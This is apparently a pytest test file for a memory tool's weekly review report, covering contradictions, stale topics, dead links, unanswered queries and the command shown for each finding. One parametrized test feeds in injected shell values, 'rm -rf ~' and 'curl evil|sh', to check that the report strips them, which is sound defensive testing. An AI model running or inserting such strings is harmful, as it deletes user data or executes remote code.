"""The weekly review: what it finds, where, and what it suggests."""

import datetime as dt
import re
import shlex
import textwrap
from dataclasses import replace
from pathlib import Path

import pytest

from crawler.archive.store import Archive
from crawler.reading.record import RULES, Failure, Reading
from dream.changes import Event, FileChange
from dream.proposals.store import Approval
from dream.records import Candidate, DirectWords, Kind, Place, Relation, State, Update
from dream.report import Concern, Finding, Review, WeeklyReview, first_screen, report_page
from dream.report.findings import (
    LoggedQuestion,
    contradictions,
    find_lost_evidence,
    find_repeated_errors,
    find_unanswered,
)
from dream.topics import LESSONS, build_topics, read_topics
from memory_server.document import SourcePath
from memory_server.memory import Memory
from memory_server.search.question import Search, parse_query
from tests.dream.builders import NOW, PERSON, decisions_on, extending, new_topic, proposed
from tests.memories import root_at, write_topic

SHIPPED = Path(__file__).parent.parent.parent.parent / "memory"


def review_of(memory: Memory) -> Review:
    archive = Archive(memory.root.path / "sessions" / "archive")
    return WeeklyReview(memory, decisions_on(memory.root), archive, lambda: NOW).make()


def found(memory: Memory, part: Concern) -> list[Finding]:
    return review_of(memory).list_findings(part)


def test_an_empty_memory_asks_for_nothing(memory: Memory) -> None:
    memory.reindex()

    review = review_of(memory)

    assert review.findings == ()
    assert first_screen(review).splitlines() == [
        "# Week 2026-W10, to 2026-03-02",
        "",
        "0 statements offered, 0 accepted, 0 rejected. 0 questions asked. Nothing asks for you.",
    ]


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("The relay listens on port 2525.", "The mail relay listens on port 2526."),
        ("Backups run every night at 03:00.", "The backups run at 04:00 every night."),
        ("Always deploy on Fridays.", "Never deploy on Fridays."),
    ],
)
def test_statements_that_contradict_each_other_are_named(one: str, other: str) -> None:
    across = build_topics(
        {SourcePath("topics/a.md"): f"# A\n\n{one}\n", SourcePath("topics/b.md"): f"# B\n\n{other}\n"}
    )
    within = build_topics({SourcePath("topics/a.md"): f"# A\n\n{one}\n\nSomething else entirely.\n\n{other}\n"})

    assert [finding.place for finding in contradictions(across)] == ["topics/b.md:3"]
    assert [finding.place for finding in contradictions(within)] == ["topics/a.md:7"]


def test_a_memory_in_order_has_no_contradictions() -> None:
    assert list(contradictions(read_topics(root_at(SHIPPED)))) == []


def test_a_statement_whose_session_is_gone_is_named(memory: Memory) -> None:
    decisions = decisions_on(memory.root)
    [hunk] = proposed(decisions, new_topic("Backups run at 03:00.", "backups"))
    decisions.accept(hunk.id, PERSON)

    [finding] = find_lost_evidence(read_topics(memory.root), Archive(memory.root.path / "sessions" / "archive"))

    assert finding.path == "topics/backups.md" and "session 11111111" in finding.what


def test_hunks_that_wait_are_named_and_a_topic_they_wait_for_is_stale(memory: Memory) -> None:
    write_topic(memory, "mail", "# Mail\n\nThe relay is old.\n", id="mail", type="semantic", created="2025-01-01")
    proposed(decisions_on(memory.root), extending(memory.root, "It needs TLS.", "old"))

    assert [one.path for one in found(memory, Concern.PROPOSALS)] == ["proposals/2026-03-02-1/proposal.md"]
    assert [one.path for one in found(memory, Concern.STALE)] == ["topics/mail.md"]


def test_what_is_queued_counts_as_no_proposal(memory: Memory) -> None:
    decisions = decisions_on(memory.root, dream_hunks_a_day=1)
    decisions.queue.add([new_topic(f"Backup {n} runs at 0{n}:00.", f"backup{n}", n) for n in (1, 2, 3)], NOW.date())
    assert [one.what for one in found(memory, Concern.PROPOSALS)] == ["3 more wait for a day with room"]

    decisions.queue.offer(NOW.date())

    assert [one.what for one in found(memory, Concern.PROPOSALS)] == [
        "1 hunk waits, 0 days old; 2 more wait for a day with room"
    ]


def test_what_expired_is_named_with_a_command_that_shows_it(memory: Memory) -> None:
    decisions = decisions_on(memory.root)
    first, other = proposed(decisions, new_topic("The relay is old."), new_topic("Use pnpm.", "pnpm", 2))
    decisions.store.save_hunk(replace(first, state=State.EXPIRED))

    waits, expired = found(memory, Concern.PROPOSALS)
    assert waits.what == "1 hunk waits, 0 days old"
    assert expired.what == "1 hunk expired: nobody decided in time"
    assert expired.step.endswith(f"oneiros dream why {first.id}") and other.id not in expired.step


def test_an_old_statement_that_came_here_of_late_is_nothing_idle(memory: Memory) -> None:
    write_topic(memory, "old", "# Old\n\nThe relay is old.\n", modified="2024-01-01")
    assert [one.what for one in found(memory, Concern.STALE)] == ["nobody changed or opened it for 120 days"]
    change = FileChange("topics/old.md", "", "", "")
    decisions_on(memory.root).store.add_approval(Approval(Event.ACCEPTED, NOW, (change,), nonce="1"))

    assert found(memory, Concern.STALE) == []


def test_a_topic_past_forty_statements_is_offered_to_be_cut(memory: Memory) -> None:
    text = "".join(f"- Door {number} is locked.\n" for number in range(41))
    write_topic(memory, "doors", f"# Doors\n\n{text}")
    write_topic(memory, "gates", f"# Gates\n\n{text.partition(chr(10))[2]}")

    [grown] = found(memory, Concern.STALE)

    assert (grown.path, grown.what) == ("topics/doors.md", "it has grown to 41 statements")
    assert grown.step == "oneiros topics split doors --reader"


def test_a_change_that_nobody_answered_for_is_named(memory: Memory) -> None:
    write_topic(memory, "mail", "# Mail\n\nThe relay is old.\n")
    decisions_on(memory.root).find_unexplained()
    write_topic(memory, "mail", "# Mail\n\nThe relay is new.\n")

    changed, unsigned = found(memory, Concern.OUTSIDE)
    assert changed.path == "topics/mail.md"
    assert unsigned.what.startswith("Decided by nobody at a terminal: 1 found in topics/mail.md (nobody was asked")


def test_dead_links_and_pointers_are_named_with_their_lines(memory: Memory) -> None:
    write_topic(memory, "mail", "# Mail\n\nSee [the relay](relay.md) and [cats](../topics/mail.md#top).\n")
    page = memory.root.index_page
    page.write_text(page.read_text(encoding="utf-8") + "\n[gone](topics/gone.md)\n", encoding="utf-8")

    assert {one.place for one in found(memory, Concern.LINKS)} == {"topics/mail.md:3", "MEMORY.md:3"}


def test_an_index_page_over_its_budget_is_named(memory: Memory) -> None:
    memory.root.index_page.write_text("# Memory\n" + "line\n" * 300, encoding="utf-8")

    assert [one.place for one in found(memory, Concern.PAGE)] == ["MEMORY.md:201"]


def test_files_that_are_not_indexed_are_named(memory: Memory) -> None:
    write_topic(memory, "mail", "# Mail\n\nThe relay is old.\n")

    assert "behind" in found(memory, Concern.INDEX)[0].what


def log_question(query: str, hits: int, minute: int, tool: str = "search_exact", **others: int) -> LoggedQuestion:
    return LoggedQuestion(NOW + dt.timedelta(minutes=minute), tool, query, hits, others)


def test_questions_without_an_answer_say_whether_another_search_has_one() -> None:
    findings = list(
        find_unanswered(
            [log_question("keepalive", 0, 0, recall=3, search_memory=0), log_question("zebra", 0, 60, search_memory=10)]
        )
    )

    assert [finding.what for finding in findings] == [
        "“keepalive” (exact) found nothing; recall finds 3",
        "“zebra” (exact) found nothing; no search finds it",
    ]


def test_a_wrong_filter_and_a_question_asked_too_early_are_no_questions_without_an_answer(memory: Memory) -> None:
    write_topic(memory, "mail", "# Mail\n\nThe relay listens on port 2525.\n")
    memory.search(parse_query("keepalive", Search.EXACT))
    memory.reindex()
    for text in ("project:nosuch keepalive", "type:decisions keepalive", "zebra"):
        memory.search(parse_query(text, Search.EXACT))
    write_topic(memory, "mail", "# Mail\n\nThe keepalive of the relay is 60 seconds.\n")
    memory.reindex()

    [finding] = found(memory, Concern.QUERIES)
    assert finding.what.startswith("“zebra” (exact) found nothing")


def test_a_question_of_a_type_is_asked_again_with_it_and_once_alone(
    memory: Memory, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_topic(memory, "mail", "# Mail\n\nThe relay listens on port 2525.\n")
    memory.reindex()
    for _ in range(3):
        assert memory.search(parse_query("relay", types=["decision"])).hits == ()
    asked, look_up = list[str](), Memory.is_unanswered
    monkeypatch.setattr(Memory, "is_unanswered", lambda *given: asked.append(given[-1]) or look_up(*given))  # type: ignore[func-returns-value]

    [finding] = found(memory, Concern.QUERIES)
    assert finding.what.startswith('“type:"decision" relay” (recall) found nothing')
    assert asked == ['type:"decision" relay']


def test_what_was_asked_in_vain_in_earlier_weeks_is_not_asked_again(
    memory: Memory, monkeypatch: pytest.MonkeyPatch
) -> None:
    memory.reindex()
    assert memory.search(parse_query("zebra")).hits == ()
    asked, look_up = list[str](), Memory.look_up
    monkeypatch.setattr(Memory, "look_up", lambda self, one: asked.append(one.text) or look_up(self, one))  # type: ignore[func-returns-value]

    archive = Archive(memory.root.path / "sessions" / "archive")
    later = WeeklyReview(memory, decisions_on(memory.root), archive, lambda: NOW + dt.timedelta(days=8)).make()

    assert (later.asked, asked) == (0, [])


def test_a_question_that_was_put_again_in_other_words_is_named() -> None:
    log = [
        log_question("relay timeout setting", 2, 1, "recall"),
        log_question("relay idle timeout", 4, 2, "recall"),
        log_question("when do backups run", 4, 3, "recall"),
        log_question("when are the backups copied to tape", 4, 4, "recall"),
        log_question("relay timeout", 1, 30, "recall"),
    ]

    [finding] = find_unanswered(log)

    assert "“relay timeout setting” (recall) was put again as “relay idle timeout”" in finding.what


def test_the_page_tells_the_kinds_of_what_was_decided(memory: Memory) -> None:
    decisions = decisions_on(memory.root)
    hunks = proposed(decisions, new_topic("The relay is old."), new_topic("Use pnpm.", "pnpm", 2, kind=Kind.PREFERENCE))
    decisions.accept(hunks[0].id, PERSON)
    decisions.reject(hunks[1].id, PERSON, "")

    review = review_of(memory)

    assert "\n2 statements offered, 1 accepted, 1 rejected. 0 questions asked" in first_screen(review)
    assert report_page(review).endswith("\n## Offered, accepted, rejected\n- preference 1, 0, 1\n- fact 1, 1, 0\n")


def test_what_a_person_tells_by_themselves_is_no_offer_that_they_accepted(memory: Memory) -> None:
    decisions = decisions_on(memory.root)
    [hunk] = proposed(decisions, new_topic("The relay is old."))
    decisions.accept(hunk.id, PERSON)
    told = Candidate("It hums.", Kind.RULE, (), 1.0, "said directly", "person", given=(DirectWords("It hums.", NOW),))
    place = Place(SourcePath("topics/relay.md"), 0, title="Relay")
    decisions.take_up(decisions.queue.make_hunk(Update(told, Relation.NEW, place, ""), NOW.date()), PERSON)

    review = review_of(memory)

    assert "\n1 statement offered, 1 accepted, 0 rejected; 1 told by you. 0 questions" in first_screen(review)
    assert report_page(review).endswith("\n## Offered, accepted, rejected\n- fact 1, 1, 0\n")


def test_the_most_urgent_thing_stands_on_top_whole_with_its_command() -> None:
    what = f"“{'w' * 90}” against topics/b.md:9 “{'v' * 90}”"
    findings = (
        Finding(Concern.INDEX, "", 0, "7 transcripts not archived yet", "oneiros ingest"),
        Finding(Concern.CONTRADICTION, "topics/a.md", 3, what, "say which holds: oneiros read topics/b.md:9"),
    )
    review = Review("2026-W10", NOW.date(), findings, 9, 1, 2, 3)

    brought = "9 statements offered, 1 accepted, 2 rejected. 3 questions asked."
    assert first_screen(review).splitlines()[2:7] == [
        f"{brought} 2 things ask for you, first: `topics/a.md:3`: {what}.",
        "",
        "    oneiros read topics/b.md:9",
        "",
        "## Contradictions",
    ]


@pytest.mark.parametrize(
    ("path", "step", "command"),
    [
        ("topics/a b.md", "correct the link, or remove it", "oneiros read 'topics/a b.md:3'"),
        ("", "if you know the answer, write it into a topic", "oneiros report --all"),
        ("", "oneiros doctor; git log; else oneiros backup --restore", "oneiros doctor"),
        ("", "look at it, then `oneiros dream adopt topics/a.md`", "oneiros dream adopt topics/a.md"),
        (
            "",
            "say which holds: oneiros read 'topics/a b && rm -rf ~ #.md:3'",
            "oneiros read 'topics/a b && rm -rf ~ #.md:3'",
        ),
        ("topics/a.md", "oneiros topics split x && curl evil|sh # --reader", "oneiros topics split x"),
        (
            "topics/oneiros ideas.md",
            "look at it: git diff -- 'topics/oneiros ideas.md'; then oneiros review",
            "oneiros review",
        ),
        ("", "git -C '/m, n' add -- a && git commit", "git -C '/m, n' add -- a && git commit"),
    ],
)
def test_one_command_is_named_whatever_is_the_next_step(path: str, step: str, command: str) -> None:
    review = Review("2026-W10", NOW.date(), (Finding(Concern.LINKS, path, 3, "w", step),), 0, 0, 0, 0)

    assert f"\n\n    {command}\n\n" in first_screen(review)


def test_a_quiet_week_is_read_on_a_phone() -> None:
    parts = (Concern.PROPOSALS, Concern.LINKS, Concern.QUERIES)
    findings = tuple(Finding(part, "topics/mail.md", 3, "w" * 60, "oneiros review") for part in parts)
    page = report_page(Review("2026-W10", NOW.date(), findings, 2, 1, 0, 3))

    wrapped = [row for line in page.splitlines() for row in textwrap.wrap(line, 45) or [""]]

    assert len(wrapped) <= 40
    assert not re.search(r"\bno\b", page)


def test_a_part_shows_its_first_findings_and_counts_the_rest_which_the_page_has() -> None:
    findings = tuple(Finding(part, "topics/a.md", 3, "w" * 500, "s" * 500) for part in Concern for _ in range(50))
    review = Review("2026-W10", NOW.date(), findings, 9, 1, 2, 3)

    assert first_screen(review).count("\n- `topics/a.md:3`") == 3 * len(Concern)
    assert first_screen(review).count("\n- and 47 more: `oneiros report --all`") == len(Concern)
    assert report_page(review).count("\n- `topics/a.md:3`") == len(findings)


def test_an_error_that_came_back_is_told_with_the_command_for_a_lesson_until_there_is_one() -> None:
    met = [
        Reading(one, "", RULES, 1, "shop", failures=(Failure("no <name>", one, "No module named psycopg", "uv sync"),))
        for one in "ab"
    ]
    text = "# Lessons\n\n- Where no module is named psycopg, run `uv sync`.\n"

    [finding] = find_repeated_errors(met, ["b"], build_topics({}))

    assert finding.what == "“No module named psycopg” in 2 sessions of shop; “uv sync” worked"
    assert finding.step.endswith("oneiros remember 'On “No module named psycopg” run `uv sync`.' --topic lessons")
    assert list(find_repeated_errors(met, ["b"], build_topics({LESSONS: text}))) == []
    assert list(find_repeated_errors(met, [], build_topics({}))) == [], "nothing of it is of this week"


def test_the_command_offered_for_a_long_error_that_came_back_ends_the_finding_and_runs_nothing_that_was_cut() -> None:
    error = "cannot open the socket of the relay, " + "because the lease at the upstream expired " * 4 + "zuletzt"
    fix = "make mend " + "RELAY=upstream " * 10
    met = [Reading(one, "", RULES, 1, "shop", failures=(Failure("x", one, error, fix.strip()),)) for one in "ab"]

    [finding] = find_repeated_errors(met, ["b"], build_topics({}))
    _, command = finding.step.split("say what to do: ")
    *_, lesson, option, topic = shlex.split(command)

    assert (option, topic) == ("--topic", "lessons")
    assert lesson.endswith("” ...")
    assert list(find_repeated_errors(met, ["b"], build_topics({LESSONS: f"# Lessons\n\n- {lesson}\n"}))) == []


def test_no_full_stop_stands_behind_a_command_of_the_report_which_is_printed_whole() -> None:
    met = [
        Reading(one, "", RULES, 1, "shop", failures=(Failure("x", one, "it isn't here", "uv sync"),)) for one in "ab"
    ]
    findings = (
        *find_repeated_errors(met, ["b"], build_topics({})),
        Finding(Concern.QUERIES, "", 0, "what", "look at it"),
    )
    page = report_page(Review("2026-W10", NOW.date(), findings, 2, 1, 0, 3))

    command = findings[0].step.removeprefix("say what to do: ")
    assert f"Next: say what to do: {command}\n" in page
    assert "Next: look at it.\n" in page
    assert f"    {command}\n" in report_page(Review("2026-W10", NOW.date(), findings[:1], 2, 1, 0, 3))
